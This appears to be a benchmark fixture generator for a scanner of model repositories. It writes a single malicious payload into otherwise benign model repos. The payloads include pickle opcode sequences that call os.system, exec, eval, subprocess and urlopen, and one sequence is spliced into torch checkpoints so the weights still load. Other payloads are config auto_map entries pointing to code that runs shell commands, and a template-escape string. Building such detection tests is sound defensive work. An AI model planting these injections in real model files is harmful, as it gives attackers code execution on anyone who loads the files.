"""Bad twins: one payload in one file of an ordinary repo, whichever file. Bytes are only written, nothing is run.

A torch file keeps its weights: the payload runs and is popped before the original pickle goes on.
"""

from __future__ import annotations

import json
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

COMMAND = "echo hubclean must not run"
Write = Callable[[Path], None]


def text(value: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(module: str, name: str, *arguments: str) -> bytes:
    """GLOBAL, arguments, REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"tR"


def stack_call(module: str, name: str, *arguments: str) -> bytes:
    """STACK_GLOBAL, arguments, REDUCE, as protocol 4 writes it."""
    return text(module) + text(name) + b"\x93(" + b"".join(map(text, arguments)) + b"tR"


CALLS = {
    "os-system": call("os", "system", COMMAND),
    "posix-system": call("posix", "system", COMMAND),
    "nt-system": stack_call("nt", "system", COMMAND),
    "exec": call("builtins", "exec", f"import os; os.system({COMMAND!r})"),
    "eval": stack_call("builtins", "eval", f"__import__('os').system({COMMAND!r})"),
    "subprocess": b"csubprocess\nPopen\n((" + text("echo") + text("x") + b"ltR",
    "getattr-chain": b"cbuiltins\ngetattr\n("
    + call("builtins", "__import__", "os")
    + text("system")
    + b"tR("
    + text(COMMAND)
    + b"tR",
    "open": call("builtins", "open", "/tmp/hubclean-must-not-be-there", "w"),
    "import": call("importlib", "import_module", "antigravity"),
    "runpy": call("runpy", "_run_code", COMMAND),
    "network": call("urllib.request", "urlopen", "http://127.0.0.1:9/x"),
    "hub-load": call("torch.hub", "load", "evil/repo", "model"),
    "from-pretrained": b"ctransformers\nAutoModel.from_pretrained\n(" + text("evil/repo") + b"tR",
    "numpy-runstring": b"cnumpy.testing._private.utils\nrunstring\n(" + text("import os") + b"}tR",
    "inst": b"(" + text(COMMAND) + b"ios\nsystem\n",
    "obj": b"(cos\nsystem\n" + text(COMMAND) + b"o",
}


def stream(name: str = "os-system") -> bytes:
    """A whole pickle that is the call and nothing else."""
    return b"\x80\x02" + CALLS[name] + b"."


def torch_file(name: str) -> Write:
    """The call, then what the file's pickle was."""

    def write(place: Path) -> None:
        body = place.read_bytes()
        if not zipfile.is_zipfile(place):
            start = body.index(b"\x80\x02}") if b"\x80\x02}" in body else body.index(b"\x80\x02c")
            place.write_bytes(body[: start + 2] + CALLS[name] + b"0" + body[start + 2 :])
            return
        out = BytesIO()
        with zipfile.ZipFile(place) as old, zipfile.ZipFile(out, "w") as new:
            for member in old.infolist():
                data = old.read(member)
                if member.filename.endswith("/data.pkl"):
                    data = data[:2] + CALLS[name] + b"0" + data[2:]
                new.writestr(member.filename, data)
        place.write_bytes(out.getvalue())

    return write


def replaced(body: bytes) -> Write:
    """Other bytes under the same name."""

    def write(place: Path) -> None:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(body)

    return write


def fields(code: str | None = None, **changed: Any) -> Write:
    """Fields put into a JSON file; ``code`` names a Python file that comes with them."""

    def write(place: Path) -> None:
        found = json.loads(place.read_text()) if place.exists() else {}
        place.write_text(json.dumps(_merged(found, changed), indent=2))
        if code:
            (place.parent / code).write_text(f"import os\n\nos.system({COMMAND!r})\n\n\nclass Evil:\n    pass\n")

    return write


def _merged(found: Any, changed: dict[str, Any]) -> Any:
    if not isinstance(found, dict):
        return changed
    for key, value in changed.items():
        found[key] = (
            _merged(found.get(key), value) if isinstance(value, dict) and isinstance(found.get(key), dict) else value
        )
    return found


def lines(added: str) -> Write:
    """Text put in front of a file."""
    return lambda place: _prepend(place, added)


def _prepend(place: Path, added: str) -> None:
    place.write_text(added + (place.read_text() if place.exists() else ""))


ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__()[140].__init__.__globals__['sys'].modules['os'].popen('id') }}"
EVIL = {"AutoConfig": "modeling_evil.Evil", "AutoModelForImageClassification": "modeling_evil.Evil"}


@dataclass(frozen=True)
class Twin:
    """One payload: in which kind of repo, in which file (a pattern), what it does."""

    kind: str
    file: str
    mechanism: str
    write: Write


def twins(out: Path, made: dict[str, dict[str, Any]]) -> list[dict[str, Any]]:
    """Copy each kind and put the payload in; a row for each twin."""
    from benchmarks.scan.ordinary.held_out.twins import HELD_OUT
    from benchmarks.scan.ordinary.twin_list import TWINS

    rows = []
    for twin in (*TWINS, *HELD_OUT):
        if twin.kind not in made:
            continue
        name = f"{twin.kind}--{twin.mechanism}"
        folder = out / "bad" / name
        shutil.rmtree(folder, ignore_errors=True)
        shutil.copytree(out / "benign" / twin.kind, folder)
        place = next(iter(sorted(folder.glob(twin.file))), folder / twin.file)
        twin.write(place)
        rows.append(
            {
                "name": name,
                "bad": True,
                "of": twin.kind,
                "loader": made[twin.kind]["loader"],
                "right": [1],
                "file": place.relative_to(folder).as_posix(),
                "mechanism": twin.mechanism,
            }
        )
    assert len({row["name"] for row in rows}) == len(rows), "two twins have one name"
    return rows
